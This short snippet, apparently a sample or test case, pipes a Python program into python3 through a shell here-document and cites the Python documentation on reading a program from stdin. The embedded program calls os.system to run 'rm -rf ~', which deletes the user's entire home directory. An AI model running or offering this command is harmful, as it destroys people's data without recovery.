# source: python(1) `-` reads the program from stdin; Here Documents https://docs.python.org/3/using/cmdline.html
python3 - <<'EOF2'
import os
os.system("rm -rf ~")
EOF2
